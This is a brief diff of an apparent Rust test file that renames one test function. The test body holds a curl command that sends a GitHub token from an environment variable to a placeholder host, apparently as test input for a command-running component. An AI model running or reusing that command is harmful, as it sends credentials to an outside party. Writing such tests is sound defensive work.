@@ -304,7 +304,7 @@ print("fine")"#;
 }
 
 #[test]
-fn another_bridge_goes_on_with_it_as_long_as_it_can_be_had() {
+fn another_bridge_goes_on_with_it_as_long_as_it_can_be_reached() {
     let Some(mut scene) = scene_or_skip() else { return };
     let send = "curl -sS -m 20 -H \"token: $GITHUB\" https://api.example.org/sent";
     scene.plainly(send).ok();
